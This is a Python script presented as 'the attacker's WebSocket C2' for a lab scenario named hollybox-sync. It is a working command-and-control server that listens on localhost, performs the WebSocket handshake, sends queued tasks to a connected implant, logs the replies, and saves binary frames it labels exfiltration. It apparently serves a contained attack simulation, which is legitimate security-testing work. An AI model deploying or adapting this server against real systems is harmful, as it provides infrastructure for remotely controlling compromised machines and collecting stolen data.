#!/usr/bin/env python3
"""The attacker's WebSocket C2 of scenario-hollybox-sync (runs as labremote).

  hollybox-c2.py --port 8457 --dir DIR

Serves one implant at a time on 127.0.0.1:PORT (GET /support/live, the
RFC 6455 handshake). Tasks are the files DIR/q/NNN.json, sent in name order
as text frames once the implant is connected; the text frame that answers
a task is written to DIR/out/NNN.json, binary frames (exfiltration) are
appended to DIR/blob-NNN.bin. Everything is logged to DIR/session.log.
Stops when the implant closes or after --max-seconds."""
import argparse, base64, hashlib, json, os, socket, struct, sys, time

GUID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"


def recvn(c, n):
    b = b""
    while len(b) < n:
        x = c.recv(n - len(b))
        if not x:
            raise EOFError
        b += x
    return b


def recv(c):
    b1, b2 = recvn(c, 2)
    n = b2 & 127
    if n == 126:
        n = struct.unpack(">H", recvn(c, 2))[0]
    elif n == 127:
        n = struct.unpack(">Q", recvn(c, 8))[0]
    m = recvn(c, 4) if b2 & 128 else b"\0\0\0\0"
    d = recvn(c, n)
    return b1 & 15, bytes(x ^ m[i % 4] for i, x in enumerate(d)) if b2 & 128 else d


def send(c, d, op=1):
    d = d.encode() if isinstance(d, str) else d
    n = len(d)
    h = bytes([0x80 | op]) + (bytes([n]) if n < 126 else bytes([126]) + struct.pack(">H", n) if n < 65536 else bytes([127]) + struct.pack(">Q", n))
    c.sendall(h + d)


def main():
    a = argparse.ArgumentParser()
    a.add_argument("--port", type=int, default=8457)
    a.add_argument("--dir", required=True)
    a.add_argument("--max-seconds", type=float, default=900)
    o = a.parse_args()
    os.makedirs(os.path.join(o.dir, "q"), exist_ok=True)
    os.makedirs(os.path.join(o.dir, "out"), exist_ok=True)
    logf = open(os.path.join(o.dir, "session.log"), "a", buffering=1)

    def log(m):
        logf.write("%s %s\n" % (time.strftime("%H:%M:%S", time.gmtime()) + ".%03d" % (time.time() % 1 * 1000), m))

    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", o.port))
    srv.listen(1)
    srv.settimeout(o.max_seconds)
    log("listening on 127.0.0.1:%d" % o.port)
    try:
        c, peer = srv.accept()
    except socket.timeout:
        log("no implant came")
        return
    req = b""
    while b"\r\n\r\n" not in req:
        req += recvn(c, 1)
    lines = req.decode(errors="replace").split("\r\n")
    log("implant %s:%d: %s" % (peer[0], peer[1], lines[0]))
    key = next(l.split(":", 1)[1].strip() for l in lines if l.lower().startswith("sec-websocket-key:"))
    acc = base64.b64encode(hashlib.sha1((key + GUID).encode()).digest()).decode()
    c.sendall(("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: %s\r\n\r\n" % acc).encode())
    op, d = recv(c)
    log("hello: %s" % d.decode(errors="replace"))
    done, t0 = set(), time.time()
    while time.time() - t0 < o.max_seconds:
        q = sorted(f for f in os.listdir(os.path.join(o.dir, "q")) if f.endswith(".json") and f not in done)
        if not q:
            time.sleep(0.2)
            continue
        name = q[0]
        done.add(name)
        task = open(os.path.join(o.dir, "q", name)).read()
        log("task %s: %s" % (name, task.strip()))
        send(c, task)
        blob = 0
        try:
            while True:
                op, d = recv(c)
                if op == 2:
                    with open(os.path.join(o.dir, "blob-%s.bin" % name[:-5]), "ab") as f:
                        f.write(d)
                    blob += len(d)
                    continue
                if op == 1:
                    break
        except EOFError:
            log("implant closed")
            return
        if blob:
            log("binary frames for %s: %d bytes" % (name, blob))
        with open(os.path.join(o.dir, "out", name), "w") as f:
            f.write(d.decode(errors="replace"))
        log("answer %s: %s" % (name, d.decode(errors="replace")[:3000]))
        if json.loads(task).get("op") == "exit":
            c.close()
            log("session closed")
            return


if __name__ == "__main__":
    main()
